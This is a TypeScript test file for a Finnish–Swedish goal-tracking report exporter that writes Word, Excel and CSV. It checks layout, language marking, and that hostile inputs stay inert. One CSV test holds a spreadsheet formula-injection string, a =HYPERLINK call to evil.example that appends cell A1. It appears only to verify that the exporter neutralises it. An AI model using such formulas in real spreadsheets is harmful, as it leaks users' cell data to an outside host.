import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { writeCsv, writeDocx, writeXlsx } from '../../../src/reports';
import { EXCEL_CELL_MAX, sheetName } from '../../../src/reports/xlsx';
import { demoReport, HOSTILE, hostileReport, paragraphTexts, parseCsv, tableRowsXml, zipParts } from './support';

const FULLY_FI = 'Toteutuu täysin';
const PARTLY_SV = 'Förverkligas delvis';
const FULLY_SV = 'Förverkligas helt';

async function loadXlsx(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  return wb;
}

describe('Word report', () => {
  it('is landscape A4 in the report’s language, with a header row that repeats on every page', async () => {
    const parts = zipParts(await writeDocx(demoReport('sv')));
    const doc = parts['word/document.xml'] ?? '';
    expect(doc).toMatch(/<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/);
    expect(parts['word/styles.xml']).toMatch(/<w:docDefaults>[\s\S]*<w:lang w:val="sv-FI"/);
    const rows = tableRowsXml(doc);
    const headerRows = rows.filter((r) => /<w:tblHeader(?: w:val="(?:true|on|1)")?\/>/.test(r));
    // The cover's count table and the goal table each have exactly one repeating header row.
    expect(headerRows.map((r) => paragraphTexts(r))).toEqual([
      ['Status', 'Antal mål'],
      ['Mål', 'Mätare', 'Utgångsläge', 'Målnivå', 'Ansvarsperson(er)', 'Genomförande 8/2021', 'Status'],
    ]);
  });

  it('heads each theme with a heading row in reading order, focus areas one level below their theme', async () => {
    const doc = zipParts(await writeDocx(demoReport('fi')))['word/document.xml'] ?? '';
    const themeRows = tableRowsXml(doc).filter((r) => /<w:pStyle w:val="Heading[23]"\/>/.test(r));
    const headings = themeRows.map((r) => `${/Heading(\d)/.exec(r)?.[1]} ${paragraphTexts(r)[0]?.split(' ')[0]}`);
    expect(headings[0]).toBe('2 1');
    expect(headings[1]).toBe('3 1.1');
    const codes = headings.map((h) => h.split(' ')[1] ?? '');
    expect(codes).toEqual([...codes].sort((a, b) => a.localeCompare(b, 'fi', { numeric: true })));
    // Title, the cover heading and the goal table's heading are real headings too.
    expect(doc).toMatch(/<w:pStyle w:val="Title"\/>/);
    expect((doc.match(/<w:pStyle w:val="Heading1"\/>/g) ?? []).length).toBe(2);
  });

  it('prints every goal with its status in the chosen language and one narrative paragraph per unit', async () => {
    const report = demoReport('sv');
    const doc = zipParts(await writeDocx(report))['word/document.xml'] ?? '';
    const goalRows = tableRowsXml(doc).filter((r) => (r.match(/<w:tc>/g) ?? []).length === 7 && !r.includes('<w:tblHeader'));
    expect(goalRows).toHaveLength(10);
    const statuses = goalRows.map((r) => paragraphTexts(r).at(-1));
    expect(statuses.filter((s) => s === FULLY_SV)).toHaveLength(4);
    expect(statuses.filter((s) => s === PARTLY_SV)).toHaveLength(6);
    const first = paragraphTexts(goalRows[0] ?? '');
    // The demo's narratives were written in Finnish: a Swedish report says so next to each.
    expect(first.some((p) => p.startsWith(`KASO (${FULLY_SV}, på finska): On laadittu kokonaisselvitys`))).toBe(true);
    expect(first.some((p) => p.startsWith(`TAKO (${FULLY_SV}, på finska): Touko-kesäkuussa`))).toBe(true);
  });

  it('prints the Swedish goal texts an admin wrote and marks the Finnish ones inside a Swedish report as Finnish', async () => {
    const doc = zipParts(await writeDocx(demoReport('sv')))['word/document.xml'] ?? '';
    const runOf = (text: string) => new RegExp(`<w:r>(?:(?!</w:r>)[\\s\\S])*${text}(?:(?!</w:r>)[\\s\\S])*</w:r>`).exec(doc)?.[0] ?? '';
    const finnish = runOf('Vahvistetaan huoltajien osallisuutta');
    expect(finnish).toContain('<w:lang w:val="fi-FI"/>');
    const swedish = runOf('En förstudie om ett lärcampus');
    expect(swedish).not.toBe('');
    expect(swedish).not.toContain('<w:lang');
  });

  it('has a chart of goals per status on the cover, described for screen readers', async () => {
    const parts = zipParts(await writeDocx(demoReport('fi')));
    const doc = parts['word/document.xml'] ?? '';
    const docPr = /<wp:docPr [^>]*>/.exec(doc)?.[0] ?? '';
    expect(docPr).toContain('descr="Pylväskaavio tavoitteiden määrästä tilan mukaan: Ei toteudu 0, Toteutuu osittain 6, Toteutuu täysin 4."');
    const chart = Object.entries(parts).find(([name]) => /^word\/charts\/chart\d+\.xml$/.test(name))?.[1] ?? '';
    expect(chart).toContain(FULLY_FI);
    expect(paragraphTexts(doc)).toContain('Tavoitteita: 10');
  });

  it('keeps hostile texts as inert text and still makes a well-formed document', async () => {
    const doc = zipParts(await writeDocx(hostileReport()))['word/document.xml'] ?? '';
    expect(doc).not.toContain('<script>');
    const texts = paragraphTexts(doc);
    expect(texts.some((t) => t.includes(HOSTILE.title))).toBe(true);
    expect(texts).toContain(HOSTILE.hyperlink);
    expect(texts.join('\n')).toContain(HOSTILE.long);
    // Characters XML cannot hold are dropped rather than breaking the file.
    expect(texts.some((t) => t.includes('ohjausmerkki ja lisää'))).toBe(true);
    for (const ch of ['\u0001', '\u0008', '\uFFFF']) expect(doc.includes(ch)).toBe(false);
    expect(doc).not.toMatch(/<w:fldSimple|<w:instrText>(?!PAGE)/);
  });
});

describe('Excel report', () => {
  it('has a summary sheet and one sheet per theme, each with a frozen header, filters and A4 landscape printing', async () => {
    const wb = await loadXlsx(await writeXlsx(demoReport('fi')));
    const names = wb.worksheets.map((w) => w.name);
    expect(names[0]).toBe('Yhteenveto');
    const report = demoReport('fi');
    const withGoals = report.sections.filter((s) => s.goals.length > 0);
    expect(names.slice(1).map((n) => n.split(' ')[0])).toEqual(withGoals.map((s) => s.theme?.code));
    expect(wb.worksheets.slice(1).reduce((n, ws) => n + ws.rowCount - 1, 0)).toBe(10);
    expect(names.every((n) => n.length <= 31)).toBe(true);
    for (const ws of wb.worksheets.slice(1)) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter).toBeTruthy();
      expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9, printTitlesRow: '1:1' });
      expect(ws.getRow(1).getCell(1).value).toBe('Nro');
    }
  });

  it('counts goals per status on the summary and lists every goal’s status as text and as the scale’s value', async () => {
    const wb = await loadXlsx(await writeXlsx(demoReport('sv')));
    const summary = wb.worksheets[0];
    if (!summary) throw new Error('no summary sheet');
    const rows: unknown[][] = [];
    summary.eachRow((r) => rows.push((r.values as unknown[]).slice(1)));
    expect(rows).toContainEqual([PARTLY_SV, 1, 6]);
    expect(rows).toContainEqual([FULLY_SV, 2, 4]);
    expect(rows.find((r) => r[0] === 'Inte rapporterat')?.[2]).toBe(0);
    const header = rows.find((r) => r.includes('Status (värde)') && r.includes('Mål')) ?? [];
    const statusAt = header.indexOf('Status');
    const valueAt = header.indexOf('Status (värde)');
    const goalRows = rows.slice(rows.indexOf(header) + 1);
    expect(goalRows).toHaveLength(10);
    expect(goalRows.map((r) => [r[statusAt], r[valueAt]]).filter(([s, v]) => s === FULLY_SV && v === 2)).toHaveLength(4);
  });

  it('writes baseline and target dates as dates and the realization per unit with its status', async () => {
    const wb = await loadXlsx(await writeXlsx(demoReport('fi')));
    const ws = wb.worksheets[1];
    if (!ws) throw new Error('no theme sheet');
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const row = ws.getRow(2);
    const baselineDate = row.getCell(header.indexOf('Lähtötason ajankohta') + 1);
    expect(baselineDate.value).toEqual(new Date('2019-12-31T00:00:00Z'));
    expect(baselineDate.numFmt).toBe('d.m.yyyy');
    const realisation = String(row.getCell(header.indexOf('Toteuma 8/2021') + 1).value);
    expect(realisation).toMatch(/^KASO \(Toteutuu täysin\): On laadittu/);
    expect(header).toContain('VAKA: tila');
  });

  it('keeps formula-looking texts as strings, never formulas, and cuts only what Excel cannot hold', async () => {
    const bytes = await writeXlsx(hostileReport());
    const parts = zipParts(bytes);
    const sheets = Object.entries(parts).filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThan(1);
    for (const [, xml] of sheets) expect(xml).not.toMatch(/<f>|<f /);
    const wb = await loadXlsx(bytes);
    const ws = wb.worksheets[1];
    if (!ws) throw new Error('no theme sheet');
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const cell = (h: string) => ws.getRow(2).getCell(header.indexOf(h) + 1);
    expect(cell('Mittari').value).toBe(HOSTILE.hyperlink);
    expect(cell('Lähtötaso').value).toBe(HOSTILE.at);
    expect(cell('Tavoitetaso').value).toBe(HOSTILE.minus);
    expect(cell('Tavoite').value).toBe(HOSTILE.title);
    const realisation = String(cell('Toteuma 8/2021').value);
    expect(realisation).toContain(`VAKA (Toteutuu täysin): ${HOSTILE.plus}`);
    expect(realisation).toContain(HOSTILE.long);
    expect(realisation.length).toBeLessThanOrEqual(EXCEL_CELL_MAX);
    expect(sheetName('=1+1 teema', new Set())).toBe('=1+1 teema');
  });

  it('names sheets within Excel’s rules: 31 characters, no reserved characters, unique', () => {
    const taken = new Set<string>();
    expect(sheetName('1.1 Hyödynnämme monipuolisia innostavia oppimisympäristöjä', taken)).toBe('1.1 Hyödynnämme monipuolisia in');
    expect(sheetName('1.1 Hyödynnämme monipuolisia innostavia oppimisympäristöjä', taken)).toBe('1.1 Hyödynnämme monipuolisi (2)');
    expect(sheetName('a/b:c?[d]*', taken)).toBe('a b c d');
  });
});

describe('CSV report', () => {
  it('is UTF-8 with a byte order mark, semicolons and CRLF, one record per goal after the header', () => {
    const bytes = writeCsv(demoReport('sv'));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records).toHaveLength(11);
    const [header, ...rows] = records as [string[], ...string[][]];
    expect(header.slice(0, 4)).toEqual(['Temats nr', 'Tema', 'Nr', 'Mål']);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
    const status = header.indexOf('Status');
    expect(rows.filter((r) => r[status] === FULLY_SV)).toHaveLength(4);
    expect(rows.filter((r) => r[status] === PARTLY_SV)).toHaveLength(6);
    const realisation = rows[0]?.[header.indexOf('Genomförande 8/2021')] ?? '';
    expect(realisation).toMatch(/^KASO \(Förverkligas helt, på finska\): On laadittu[\s\S]*\n\nTAKO \(Förverkligas helt, på finska\): Touko-kesäkuussa/);
    expect(rows[0]?.[header.indexOf('Utgångslägets tidpunkt')]).toBe('2019-12-31');
  });

  it('quotes by RFC 4180 and neutralises every formula-looking text with an apostrophe', () => {
    const text = new TextDecoder().decode(writeCsv(hostileReport()));
    const [header, row] = parseCsv(text) as [string[], string[]];
    const col = (h: string) => row[header.indexOf(h)];
    expect(col('Teema')).toBe(`'=1+1 teema`);
    expect(col('Mittari')).toBe(`'${HOSTILE.hyperlink}`);
    expect(col('Lähtötaso')).toBe(`'${HOSTILE.at}`);
    expect(col('Tavoitetaso')).toBe(`'${HOSTILE.minus}`);
    expect(col('Tavoite')).toBe(HOSTILE.title);
    expect(col('Toteuma 8/2021')).toContain(HOSTILE.long);
    // Every field a spreadsheet would evaluate starts with the apostrophe.
    for (const field of row) expect(field).not.toMatch(/^[=+\-@]/);
    expect(text).toContain(`"=HYPERLINK(""http://evil.example/?""&A1,""Avaa"")"`.replace('"=', `"'=`));
  });
});

describe('a narrative in another language than the report', () => {
  // The first goal's KASO narrative of 8/2021, rewritten as a Swedish writer would have sent it.
  const SWEDISH = 'Förstudien är klar och lärcampusgruppen fortsätter sitt arbete.';
  const withSwedishNarrative = (lang: 'fi' | 'sv') =>
    demoReport(lang, '2021-08', (d) => {
      const first = d.goals.find((g) => g.key.endsWith('.g1'));
      const c = d.checkIns.filter((x) => x.goalKey === first?.key && x.unit === 'KASO' && x.period <= '2021-08').sort((a, b) => a.period.localeCompare(b.period)).at(-1);
      if (!c) throw new Error('demo has no KASO check-in for goal 1');
      c.narrative = SWEDISH;
      c.language = 'sv';
    });

  it('is marked with its own language in Word (w:lang) and said in words, while same-language narratives are not', async () => {
    const doc = zipParts(await writeDocx(withSwedishNarrative('fi')))['word/document.xml'] ?? '';
    const run = new RegExp(`<w:r>(?:(?!</w:r>)[\\s\\S])*${SWEDISH.slice(0, 20)}(?:(?!</w:r>)[\\s\\S])*</w:r>`).exec(doc)?.[0] ?? '';
    expect(run).toContain('<w:lang w:val="sv-FI"/>');
    const first = paragraphTexts(tableRowsXml(doc).filter((r) => (r.match(/<w:tc>/g) ?? []).length === 7 && !r.includes('<w:tblHeader'))[0] ?? '');
    expect(first).toContain(`KASO (${FULLY_FI}, ruotsiksi): ${SWEDISH}`);
    expect(first.some((p) => p.startsWith(`TAKO (${FULLY_FI}): Touko-kesäkuussa`))).toBe(true);
  });

  it('says its language in the CSV and Excel realisation text, and the Swedish report leaves the Swedish one unmarked', async () => {
    const csv = parseCsv(new TextDecoder().decode(writeCsv(withSwedishNarrative('fi'))).replace(/^\uFEFF/, ''));
    const [header, row] = csv as [string[], string[]];
    expect(row[header.indexOf('Toteuma 8/2021')]).toMatch(new RegExp(`^KASO \\(${FULLY_FI}, ruotsiksi\\): ${SWEDISH}`));
    const wb = await loadXlsx(await writeXlsx(withSwedishNarrative('sv')));
    const cells: string[] = [];
    wb.worksheets.forEach((ws) => ws.eachRow((r) => r.eachCell((c) => void cells.push(String(c.value ?? '')))));
    expect(cells.some((c) => c.startsWith(`KASO (${FULLY_SV}): ${SWEDISH}`))).toBe(true);
    expect(cells.some((c) => c.includes(`TAKO (${FULLY_SV}, på finska): Touko-kesäkuussa`))).toBe(true);
  });
});
